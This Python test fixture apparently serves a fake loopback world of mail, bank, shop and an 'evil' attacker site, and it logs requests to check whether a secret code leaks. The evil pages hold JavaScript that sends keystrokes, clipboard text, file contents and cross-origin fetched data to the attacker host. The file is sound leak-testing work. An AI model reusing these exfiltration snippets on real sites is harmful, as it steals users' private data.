"""A small world on loopback: mail, calendar, shop, bank, files and a CDN, and an attacker who hears what reaches him.

One server answers under all names (`mail.localhost`, …). Every path begins with the number of a case, and every
request is kept, so that what left is seen where it arrived: `/7/message` of `mail` is the message of case 7. A page
answers a GET with itself, and a POST with what it has done.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
import threading
from collections.abc import Callable, Collection, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from random import Random
from string import ascii_lowercase
from typing import NamedTuple
from urllib.parse import parse_qs, quote, unquote, urlsplit

from tests.e2e.security.flows.places import Place, drawn
from tests.site.server import png
from tests.site.serving import LocalServer, serving

MAIL, EVIL = "mail", "evil"
SOCKET_KEY = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455

MESSAGE = """<p id="message">Dear Ada, your reference is CODE. Yours, the bank</p><a id="reply" href="compose">Reply</a>
<a id="attachment" href="attachment" download>Attachment</a><button id="delete">Delete</button>
<a id="other" href="./" target="_blank">New tab</a><script>
document.getElementById("delete").onclick = () => {
  if (confirm("Delete it?")) fetch("deleted", { method: "POST" }).then(() => { document.title = "Deleted"; });
};
localStorage.reference = "CODE";
</script>PLACE"""
PREVIEW = """
const shown = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;")
  .replace(/!\\[(.*?)\\]\\((.*?)\\)/g, '<img alt="$1" src="$2">')
  .replace(/\\[(.*?)\\]\\((.*?)\\)/g, '<a href="$2">$1</a>');
preview.onclick = () => { draft.innerHTML = shown(body.value); };
"""
COMPOSE = f"""<form method="post" action="send" enctype="multipart/form-data"><input id="to" name="to" aria-label="To">
<input id="subject" name="subject" aria-label="Subject"><textarea id="body" name="body" aria-label="Text"></textarea>
<input id="file" name="file" type="file"><button id="send">Send</button></form><button id="preview">Preview</button>
<div id="draft"></div><script>{PREVIEW}</script>"""


def form(*fields: str, action: str = "") -> str:
    """A form that posts its fields to a page of the same site."""
    inputs = "".join(f'<label>{name}<input id="{name}" name="{name}"></label>' for name in fields)
    return f'<form method="post" action="{action}">{inputs}<button id="send">Send</button></form>'


UPLOAD = """<form method="post" enctype="multipart/form-data"><input id="file" name="file" type="file">
<button id="send">Share</button></form>"""
# Keeps for later what it is told, and asks for a script by that name as well, in case only scripts get out.
HEARD = """
const heard = (what) => {
  localStorage.heard = (localStorage.heard ?? "") + CASE + ":" + what + "\\n";
  fetch("heard", { method: "POST", body: what, keepalive: true }).finally(() => { document.title = "Heard " + what; });
  const script = Object.assign(document.createElement("script"), { src: "heard.js?q=" + encodeURIComponent(what) });
  document.head.append(script);
};
"""
LISTENER = """
const letter = (number) => heard("letter " + String.fromCharCode(number));
if (location.hash) heard(location.hash);
text.oninput = () => heard(text.value);
text.onpaste = (event) => heard(event.clipboardData.getData("text/plain"));
list.onchange = () => heard("letter " + list.value);
file.onchange = async () => heard(file.files[0].name + " " + await file.files[0].text());
ask.onclick = () => heard(prompt("What is it?") ?? "");
field.onscroll = () => letter(Math.round(field.scrollTop / 10));
addEventListener("resize", () => letter(innerWidth - 400));
addEventListener("visibilitychange", () => heard(document.visibilityState));
addEventListener("storage", (event) => heard(event.newValue));
addEventListener("click", ({ target }) => { if (target.dataset.letter) heard("letter " + target.dataset.letter); });
"""
WATCHER = """
let opened, frames = -1;
const look = () => { if (opened && opened.length !== frames) heard("frames " + (frames = opened.length)); };
setInterval(look, 50);
document.getElementById("open").onclick = () => { opened = open("ORIGIN:mail/CASE/message"); };
"""
ASKER = """
let last;
setInterval(() => { const said = confirm("Well?"); if (said !== last) heard(String(last = said)); }, 50);
"""
PASSING = """
const passed = (text) => {
  const script = document.createElement("script");
  script.onload = script.onerror = () => { document.title = "Passed"; };
  script.src = "heard.js?q=" + encodeURIComponent(text);
  document.head.append(script);
};
"""
LETTERS = "".join(f'<button data-letter="{each}" id="letter-{each}">{each}</button>' for each in ascii_lowercase)
OPTIONS = "".join(f"<option>{each}</option>" for each in ascii_lowercase)
LISTEN = f"""<input id="text" aria-label="Say"><select id="list"><option>-</option>{OPTIONS}</select>
<input id="file" type="file"><button id="ask">Ask</button>{LETTERS}
<div id="field" style="height:20px;overflow:auto"><div style="height:3000px"></div></div>
<script>{HEARD}{LISTENER}</script>"""

RICH = """<link rel="stylesheet" href="CDN/style.css"><p id="text">Plain</p><img src="CDN/image.png">
<iframe src="frame">
</iframe><script src="CDN/script.js"></script>"""
STYLE = (
    '@font-face {{ font-family: f; src: url("{cdn}/font.woff2"); }} #text {{ color: rgb(1, 2, 3); font-family: f; }}'
)
WORKER = """
addEventListener("install", (event) => event.waitUntil(caches.open("mail").then((cache) => cache.add("message"))));
addEventListener("fetch", (event) => {
  if (event.request.url.endsWith("/kept")) event.respondWith(caches.match("message"));
});
"""

PAGES: dict[tuple[str, str], str] = {
    (MAIL, ""): '<ul><li><a id="first" href="message">A message</a></li></ul>'
    '<form action="search"><input id="q" name="q" aria-label="Search"></form>',
    (MAIL, "message"): MESSAGE,
    (MAIL, "compose"): COMPOSE,
    (MAIL, "send"): "",
    (MAIL, "search"): "<p>Found: reference CODE</p>",
    (MAIL, "profile"): form("name", "forward"),
    (MAIL, "framed"): '<iframe src="ORIGIN:pictures.mail/CASE/frame"></iframe>',
    (MAIL, "rich"): RICH,
    (MAIL, "frame"): "<p>In a frame</p>",
    ("pictures.mail", "frame"): "<p>Framed by mail</p>",
    (MAIL, "worker"): '<script>navigator.serviceWorker.register("service.js").then(() => navigator.serviceWorker.ready)'
    '.then(() => { document.title = "Ready"; });</script>',
    ("calendar", ""): "<p>Next: the dentist, on Monday</p>",
    ("calendar", "event"): form("what", "guests"),
    ("shop", ""): '<p>A kettle, 20 EUR</p><a id="order" href="order">Order</a>PLACE',
    ("shop", "order"): form("item", "address"),
    ("shop", "review"): form("text"),
    ("bank", ""): "<p>Balance: 100 EUR. Rent is due on 1 May</p>",
    ("bank", "transfer"): form("to", "amount", "purpose"),
    ("bank", "profile"): form("email"),
    ("files", ""): '<p>report.txt</p><a id="report" href="report" download>Download</a>',
    ("files", "share"): UPLOAD,
    ("archive", ""): '<iframe src="ORIGIN:evil/CASE/listen"></iframe>',
    ("archive", "note"): form("text"),
    (EVIL, "listen"): LISTEN,
    (EVIL, ""): '<p>Evil</p><a id="tool" href="tool" download>Tool</a>PLACE',
    (EVIL, "opener"): '<button id="open">Open</button><script>document.getElementById("open").onclick = () => '
    '{ open("ORIGIN:mail/CASE/message"); };</script>',
    (EVIL, "watching"): f'<button id="open">Open</button><script>{HEARD}{WATCHER}</script>',
    (EVIL, "asking"): f"<script>{HEARD}{ASKER}</script>",
    (EVIL, "passing"): f"""<button id="go">Go</button><script>{PASSING}
go.onclick = () => fetch("ORIGIN:mail/CASE/feed").then((answer) => answer.text()).then(passed);</script>""",
    (EVIL, "scripting"): f"""<button id="go">Go</button><p id="told"></p><script>{PASSING}
go.onclick = () => {{
  const script = Object.assign(document.createElement("script"), {{ src: "ORIGIN:mail/CASE/feed.js" }});
  script.onload = () => passed(told.textContent);
  document.head.append(script);
}};</script>""",
    (EVIL, "framing"): '<iframe src="ORIGIN:mail/CASE/message"></iframe>',
    (EVIL, "picture"): '<img id="picture" src="ORIGIN:mail/CASE/picture.svg">',
    (EVIL, "script"): '<p id="told"></p><script src="ORIGIN:mail/CASE/feed.js"></script>',
    (EVIL, "cors"): '<p id="told"></p><script>fetch("ORIGIN:mail/CASE/feed").then((answer) => answer.text())'
    ".then((text) => { told.textContent = text; });</script>",
    (EVIL, "link"): '<a id="attachment" href="ORIGIN:mail/CASE/attachment">Attachment</a>',
    (EVIL, "post"): '<form method="post" action="ORIGIN:mail/CASE/search"><button id="send">Go on</button></form>',
}


class Request(NamedTuple):
    """What has reached a site. `path` is without the number of its case, `everything` is all of it as one text."""

    host: str
    case: int
    method: str
    path: str
    query: dict[str, str]
    body: str
    everything: str

    @property
    def words(self) -> str:
        return f"{self.method} {self.host}/{self.path}"


def code_of(case: int) -> str:
    """What is secret in a case's mail: eight letters, none twice."""
    return "".join(Random(case).sample(ascii_lowercase, 8))


ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "reversed": lambda text: text[::-1],
    "hex": lambda text: text.encode().hex(),
    "capitals": str.upper,
    "dotted": ".".join,
    "first": lambda text: text[:4],
    "second": lambda text: text[4:],
    "shifted": lambda text: "".join(chr((ord(each) - 97 + 13) % 26 + 97) for each in text),
}


class World:
    """The sites while they are served. `places` says where the message of a case carries what text."""

    def __init__(self, server: _Server) -> None:
        self._server = server
        self.places = server.places
        self.port = server.server_port

    def url(self, host: str, case: int, path: str = "") -> str:
        return f"http://{host}.localhost:{self.port}/{case}/{path}"

    def requests(self, case: int) -> list[Request]:
        """What has arrived of a case, in order."""
        with self._server.lock:
            return [each for each in self._server.requests if each.case == case]

    def after(self, case: int) -> list[Request]:
        """What has arrived of a case since anything was asked of its mail."""
        asked = self.requests(case)
        return asked[next((at for at, each in enumerate(asked) if each.host == MAIL), len(asked)) :]

    def left(self, case: int, allowed: Collection[str]) -> list[Request]:
        """What of that came to other sites than those."""
        return [each for each in self.after(case) if each.host not in allowed]

    def told(self, case: int, allowed: Collection[str]) -> bool:
        """Whether the secret of a case came out: in some form, in halves, or letter by letter."""
        code = code_of(case)
        left = self.left(case, allowed)
        texts = [each.everything for each in left]
        forms = {
            code,
            base64.b64encode(f"{code}:".encode()).decode(),
            *(encode(code) for name, encode in ENCODINGS.items() if name not in ("first", "second")),
        }
        halves = all(any(half in text for text in texts) for half in (code[:4], code[4:]))
        spelled = "".join(
            each.query.get("letter", each.body[7:] if each.body.startswith("letter ") else "") for each in left
        )
        return halves or code in spelled or any(form in text for form in forms for text in texts)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def do_GET(self) -> None:
        split = urlsplit(self.path)
        proxied = bool(split.netloc)
        name = (self.headers["Host"] or "").rpartition(":")[0].removesuffix(".localhost")
        number, _, path = unquote(split.path).lstrip("/").partition("/")
        self.case = int(number) if number.isdigit() else 0
        query = {key: values[-1] for key, values in parse_qs(split.query).items()}
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        # What a proxy passes on is the proxy's.
        seen = code_of(self.case) if proxied else ""
        everything = "\n".join([unquote(self.headers["Host"] + self.path), str(self.headers), unquote(body), seen])
        host = "proxy" if proxied else name
        with self.server.lock:
            self.server.requests.append(Request(host, self.case, self.command, path, query, body, everything))
        self.answer(name if name == MAIL or (name, path) in PAGES else name.rpartition(".")[2] or name, path, query)

    def do_POST(self) -> None:
        self.do_GET()

    def answer(self, host: str, path: str, query: dict[str, str]) -> None:
        place, text = self.server.places.get(self.case, (Place(), ""))
        if path == "go":
            self.send(b"", status=302, headers={"Location": query["to"]})
        elif path == "locked" and "Authorization" not in self.headers:
            self.send(b"", status=401, headers={"WWW-Authenticate": f'Basic realm="{self.case}"'})
        elif path == "socket":
            self.say(text)
        elif path in ("attachment", "report", "tool"):
            named = (
                quote(place.written(text, "NAME.txt"))
                if "NAME" in place.file and path == "attachment"
                else f"{path}.txt"
            )
            content = "print('ran')" if path == "tool" else f"Your reference is {code_of(self.case)}.\n{text}"
            headers = {"Content-Disposition": f"attachment; filename*=UTF-8''{named}"}
            self.send(content.encode(), "application/octet-stream", headers=headers)
        elif path.endswith(".png"):
            self.send(png(), "image/png")
        elif path.endswith(".svg"):
            self.send(
                drawn(text if path == "text.svg" else f"Your reference is {code_of(self.case)}.").encode(),
                "image/svg+xml",
            )
        elif path == "body":
            self.send(json.dumps({"note": text}).encode(), "application/json")
        elif path == "feed":
            self.send(f"Your reference is {code_of(self.case)}.".encode(), "text/plain")
        elif path == "feed.js":
            self.send(f"told.textContent = 'Your reference is {code_of(self.case)}.'".encode(), "text/javascript")
        elif path == "service.js":
            self.send(WORKER.encode(), "text/javascript")
        elif path == "script.js":
            self.send(b"document.title = 'By script';", "text/javascript")
        elif path == "style.css":
            self.send(STYLE.format(cdn=self.server.url("cdn", self.case)).encode(), "text/css")
        elif host in (EVIL, MAIL) and path == "written":
            self.send(self.page("Written", place.written(text, place.body)))
        else:
            self.show(host, path, place, text)

    def show(self, host: str, path: str, place: Place, text: str) -> None:
        body = PAGES.get((host, path), f"<p>{host}: {html.escape(path)}</p>")
        headers, title = {}, f"{host} {path}".strip()
        if "PLACE" in body and text and (host == place.site or not place.site):
            title = place.written(text, place.title) or title
            headers = {name: place.written(text, value) for name, value in place.headers.items()}
            body = body.replace("PLACE", place.written(text, place.body))
        if self.command == "POST" and path != "search":
            title = "Done"
            body = f"<p>Done: {path}</p>"
        elif host == MAIL and path == "message":
            headers["Set-Cookie"] = f"reference={code_of(self.case)}; Path=/"
        self.send(self.page(title, body.replace("PLACE", "")), headers=headers)

    def page(self, title: str, body: str) -> bytes:
        body = body.replace("CODE", code_of(self.case)).replace("CDN", self.server.url("cdn", self.case))
        for name in (MAIL, "pictures.mail", EVIL):
            body = body.replace(f"ORIGIN:{name}/CASE", self.server.url(name, self.case))
        body = body.replace("CASE", str(self.case))
        return f"<!doctype html><title>{title}</title><link rel=icon href=data:,>{body}".encode()

    def send(
        self,
        body: bytes,
        kind: str = "text/html; charset=utf-8",
        status: int = 200,
        headers: dict[str, str] | None = None,
    ) -> None:
        self.send_response(status)
        fixed = {"Content-Type": kind, "Content-Length": str(len(body)), "Access-Control-Allow-Origin": "*"}
        for name, value in {**fixed, "Cache-Control": "no-store", **(headers or {})}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def say(self, text: str) -> None:
        """Take a WebSocket, and send one message."""
        if "Sec-WebSocket-Key" not in self.headers:
            self.send(b"")
            return
        key = hashlib.sha1((self.headers["Sec-WebSocket-Key"] + SOCKET_KEY).encode()).digest()
        self.send_response(101)
        for name, value in {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Accept": base64.b64encode(key).decode(),
        }.items():
            self.send_header(name, value)
        self.end_headers()
        data = text.encode()
        size = bytes([len(data)]) if len(data) < 126 else b"\x7e" + len(data).to_bytes(2, "big")
        self.wfile.write(b"\x81" + size + data)
        self.rfile.read(1)  # until it is closed
        self.close_connection = True

    def log_message(self, format: str, *args: object) -> None:
        """Requests are kept, not printed."""


class _Server(LocalServer):
    def __init__(self) -> None:
        super().__init__(_Handler)
        self.lock = threading.Lock()
        self.requests: list[Request] = []
        self.places: dict[int, tuple[Place, str]] = {}

    def url(self, host: str, case: int) -> str:
        return f"http://{host}.localhost:{self.server_port}/{case}"


@contextmanager
def world() -> Iterator[World]:
    with serving(_Server()) as server:
        yield World(server)
